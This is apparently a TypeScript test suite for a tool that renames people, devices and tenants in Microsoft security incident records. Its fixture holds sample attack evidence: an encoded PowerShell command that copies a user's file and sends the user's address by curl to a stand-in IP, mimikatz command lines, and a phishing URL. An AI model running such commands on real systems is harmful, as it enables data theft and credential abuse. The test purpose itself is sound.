import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { namesLeft } from '../fixtures/name-search.js';
import { Renaming, type KnownNames } from '../index.js';

const base = '#microsoft.graph.security.';
const digest = (sort: string, name: string): string => createHash('sha256').update(`${sort} ${name}`).digest('hex');
const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

interface Names {
  first: string;
  last: string;
  account: string;
  host: string;
  company: string;
  sid: string;
  objectId: string;
  deviceId: string;
  tenantId: string;
}

const jane: Names = { first: 'Jane', last: 'Doe', account: 'jdoe', host: 'FIN-LT042', company: 'fabrikam', sid: 'S-1-5-21-1111-2222-3333-4711', objectId: '1f0e8c1a-2b3c-4d5e-8f90-112233445566', deviceId: 'ab12'.repeat(10), tenantId: '72f988bf-86f1-41af-91ab-2d7cd011db47' };

/** Everything a tenant is told apart by, in every place the records have for it. */
function recordsOf({ first, last, account, host, company, sid, objectId, deviceId, tenantId }: Names): { incident: Record<string, unknown>; rows: Record<string, unknown>[] } {
  const domain = `corp.${company}.com`;
  const upn = `${first}.${last}@${company}.com`.toLowerCase();
  const command = `powershell -enc ${encoded(`copy \\\\${host}\\c$\\Users\\${account}\\plan.docx \\\\files01\\share; curl http://203.0.113.7/x?u=${upn}`)}`;
  return {
    incident: {
      id: '7', displayName: `Credential theft on ${host}`, incidentWebUrl: `https://security.microsoft.com/incidents/7?tid=${tenantId}`, tenantId, assignedTo: `second.analyst@${company}.com`,
      comments: [{ comment: `${first} says it was not her. Ask ${last} again.`, createdByDisplayName: 'Second Analyst' }],
      alerts: [{
        id: 'a1', tenantId, title: 'Suspicious logon',
        evidence: [
          { '@odata.type': `${base}deviceEvidence`, deviceDnsName: `${host}.${domain}`, hostName: host, mdeDeviceId: deviceId, ntDomain: company.toUpperCase(), loggedOnUsers: [{ accountName: account, domainName: company.toUpperCase() }] },
          { '@odata.type': `${base}userEvidence`, userAccount: { accountName: account, domainName: company.toUpperCase(), userPrincipalName: upn, displayName: `${first} ${last}`, userSid: sid, azureAdUserId: objectId } },
          { '@odata.type': `${base}processEvidence`, processId: 4, processCommandLine: command, userAccount: { accountName: 'SYSTEM', domainName: 'NT AUTHORITY', userSid: 'S-1-5-18' }, imageFile: { fileName: 'powershell.exe', filePath: `C:\\Users\\${account}\\AppData` } },
          { '@odata.type': `${base}analyzedMessageEvidence`, recipientEmailAddress: upn, subject: `Hello ${first}`, p1Sender: { emailAddress: 'pay@invoices.example', domainName: 'invoices.example' } },
          { '@odata.type': `${base}urlEvidence`, url: `https://login.evil.example/?e=${upn}` },
          { '@odata.type': `${base}ipEvidence`, ipAddress: '203.0.113.7' },
        ],
      }],
    },
    rows: [
      { Table: 'DeviceEvents', Timestamp: '2026-05-12T08:00:00Z', DeviceName: `${host}.${domain}`, DeviceId: deviceId, AccountName: account, AccountSid: sid, FileName: 'mimikatz.exe', SHA256: 'ab'.repeat(32), AdditionalFields: JSON.stringify({ Path: `C:\\Users\\${account}\\x.ps1`, Owner: `${company}\\${account}`, Note: 'caf\u00e9' }).replace('\u00e9', '\\u00e9') },
      { Table: 'CloudAppEvents', Timestamp: '2026-05-12T08:00:00Z', AccountObjectId: objectId, AccountDisplayName: `${first} ${last}`, ObjectName: `https://${company}-my.sharepoint.com/personal/${upn.replaceAll(/[.@]/g, '_')}/Documents` },
      { Table: 'DeviceLogonEvents', Timestamp: '2026-05-12T08:00:00Z', RemoteDeviceName: host, AccountName: 'krbtgt', InitiatingProcessCommandLine: `mimikatz /user:${account} /domain:${domain} /sid:${sid}` },
    ],
  };
}
const renamed = (names: Names, known: KnownNames = {}) => {
  const records = recordsOf(names);
  const renaming = new Renaming(records, known, digest);
  return { records, renaming, other: renaming.value(records) };
};

describe('records under other names', () => {
  it('say the same name for the same thing everywhere', () => {
    const { renaming, other } = renamed(jane);
    const text = JSON.stringify(other);
    const [account, host, company] = [renaming.text('jdoe'), renaming.text('fin-lt042'), renaming.text('FABRIKAM')];
    expect([account, host, company].map((name) => name.replace(/-.*/, ''))).toEqual(['person', 'device', 'org']);
    expect(other.rows[0]).toMatchObject({ DeviceName: `${host}.corp.${company}.com`, AccountName: account });
    expect(JSON.parse(other.rows[0]?.['AdditionalFields'] as string)).toEqual({ Path: `C:\\Users\\${account}\\x.ps1`, Owner: `${company}\\${account}`, Note: 'café' });
    expect(other.rows[2]).toMatchObject({ RemoteDeviceName: host, InitiatingProcessCommandLine: expect.stringContaining(`/user:${account} /domain:corp.${company}.com /sid:S-1-5-21-`) as unknown });
    const command = /-enc (\S+?)"/.exec(text)?.[1] ?? '';
    expect(Buffer.from(command, 'base64').toString('utf16le')).toContain(`copy \\\\${host}\\c$\\Users\\${account}\\plan.docx`);
    expect(text).toContain(`https://${company}-my.sharepoint.com/personal/`);
  });

  it('are changed in what is encoded more than once, and the rest of an encoding stays', () => {
    const { renaming } = renamed(jane);
    const inner = (name: string): string => Buffer.from(`powershell -enc ${encoded(`type C:\\Users\\${name}\\plan.txt`)}`).toString('base64');
    expect(renaming.text(`sh -c ${inner('jdoe')}`)).toBe(`sh -c ${inner(renaming.text('jdoe'))}`);
    const [other, bytes] = [Buffer.from('nothing of anybody is in here').toString('base64'), Buffer.from(Array.from({ length: 90 }, (_, at) => (at * 89) % 251)).toString('base64')];
    expect(renaming.text(`${other} ${bytes}`)).toBe(`${other} ${bytes}`);
  });

  it('keep what tells nothing about whose they are', () => {
    const text = JSON.stringify(renamed(jane).other);
    for (const kept of ['203.0.113.7', 'pay@invoices.example', 'https://login.evil.example/?e=', 'ab'.repeat(32), 'mimikatz', 'powershell.exe', 'SYSTEM', 'NT AUTHORITY', 'S-1-5-18', 'krbtgt', 'sharepoint.com', 'Credential theft on', 'CloudAppEvents']) expect(text).toContain(kept);
  });

  it('keep the roles in names of devices and accounts, and the order of names', () => {
    const evidence = ['paris-dc01', 'paris-sql2', 'paris-web', 'amsterdam'].map((hostName) => ({ '@odata.type': `${base}deviceEvidence`, hostName }));
    const users = ['svc-erp', 'anna-adm', 'bernd', 'clara'].map((accountName) => ({ '@odata.type': `${base}userEvidence`, userAccount: { accountName } }));
    const renaming = new Renaming({ incident: { alerts: [{ evidence: [...evidence, ...users] }] }, rows: [] }, {}, digest);
    expect(['paris-dc01', 'paris-sql2', 'paris-web', 'svc-erp', 'anna-adm'].map((name) => renaming.text(name))).toEqual([/^device-[a-z]+-dc$/, /^device-[a-z]+-sql$/, /^device-[a-z]+-web$/, /^svc-[a-z]+$/, /^person-[a-z]+-adm$/].map((form) => expect.stringMatching(form) as unknown));
    for (const names of [['amsterdam', 'paris-dc01', 'paris-sql2', 'paris-web'], ['anna-adm', 'bernd', 'clara']]) expect(names.map((name) => renaming.text(name))).toEqual(names.map((name) => renaming.text(name)).sort());
  });

  it('take a word for a name only where it must be one', () => {
    const renaming = new Renaming({ incident: { alerts: [{ evidence: [{ userAccount: { accountName: 'max', domainName: 'FABRIKAM', userPrincipalName: 'max@fabrikam.com' } }] }] }, rows: [] }, {}, digest);
    const name = renaming.value({ accountName: 'max' }).accountName;
    expect(name).toMatch(/^person-/);
    expect(renaming.text('tool.exe -max 5 C:\\Users\\max\\a FABRIKAM\\max max@fabrikam.com')).toBe(`tool.exe -max 5 C:\\users\\${name}\\a ${renaming.text('fabrikam')}\\${name} ${name}@${renaming.text('fabrikam')}.com`);
    expect(renaming.value({ comment: 'Max did it.' }).comment).toBe(`${name} did it.`);
  });

  it('hide the name of the tenant in addresses and domains elsewhere too', () => {
    const { renaming } = renamed({ ...jane, company: 'fabrikam' }, { texts: ['partner@fabrikam.example', 'boss@gmail.com'] });
    expect(renaming.text('http://fabrikam-login.evil.example partner@fabrikam.example boss@gmail.com')).toMatch(/^http:\/\/(org-\w+)-login\.evil\.example person-\w+@\1\.example person-\w+@gmail\.com$/);
  });

  it('leave names that come from elsewhere out of the order: the others stay as they are', () => {
    const names = ['jdoe', 'fin-lt042', 'fabrikam', jane.sid, jane.objectId];
    const [alone, more] = [renamed(jane).renaming, renamed(jane, { people: ['Aaron Ant', 'zoe@fabrikam.com', 'jdoe'], devices: ['aa-1'], tenants: ['northwind'] }).renaming];
    expect(names.map((name) => more.text(name))).toEqual(names.map((name) => alone.text(name)));
    expect(more.text('Aaron Ant and zoe work for Northwind on aa-1')).toMatch(/^person-\w+ and person-\w+ work for tenant-\w+ on device-\w+$/);
  });

  it('hold nothing of any name, in any case of letters, also encoded', () => {
    const word = (least: number) => fc.stringMatching(new RegExp(`^[a-z]{${least},12}$`)).map((text) => `q${text}`);
    const guid = fc.uuid().filter((id) => !/^[0-]+$/.test(id));
    const number = fc.integer({ min: 1_000, max: 4_294_967_295 });
    const hex = fc.stringMatching(/^[0-9a-f]{40}$/).filter((id) => !/^0+$/.test(id));
    const names: fc.Arbitrary<Names> = fc.record({ first: word(3), last: word(3), account: word(3), host: fc.tuple(word(2), fc.nat(99)).map(([text, at]) => `${text}-${at}`), company: word(4), sid: fc.tuple(number, number, number, number).map((parts) => `S-1-5-21-${parts.join('-')}`), objectId: guid, deviceId: hex, tenantId: guid });
    fc.assert(fc.property(names, (given) => {
      fc.pre(new Set([given.first, given.last, given.account, given.company]).size === 4);
      const { records, renaming, other } = renamed(given);
      const { first, last, account, host, company, sid, objectId, deviceId, tenantId } = given;
      expect(namesLeft(other, [`${first} ${last}`, `${first}.${last}`, account, host, company, sid, objectId, deviceId, tenantId])).toEqual([]);
      expect(renaming.back(JSON.stringify(other.incident).replace(/-enc \S+"/, ''))).toBe(JSON.stringify(records.incident).replace(/-enc \S+"/, '').toLowerCase());
    }), { numRuns: 200 });
  });

  it('read JSON in texts, and survive what is nested to do harm', () => {
    const nested = (depth: number): string => `${'['.repeat(depth)}{"AccountName":"\\u0071doe"}${']'.repeat(depth)}`;
    for (const depth of [1, 50, 100_000]) {
      const rows = [{ AdditionalFields: nested(depth) }, { AccountName: 'qdoe' }];
      const other = new Renaming({ incident: {}, rows }, {}, digest).value(rows);
      expect(/person-\w+/.test(other[0]?.AdditionalFields ?? '')).toBe(depth < 100);
    }
  });

  it('take time by the length of texts, not by the number of names', () => {
    const users = Array.from({ length: 5_000 }, (_, at) => ({ AccountName: `user${at}name`, DeviceName: `host-${at}.corp.fabrikam.com` }));
    const renaming = new Renaming({ incident: {}, rows: users }, {}, digest);
    expect(new Set(users.map(({ AccountName }) => renaming.text(AccountName))).size).toBe(5_000);
  });
});
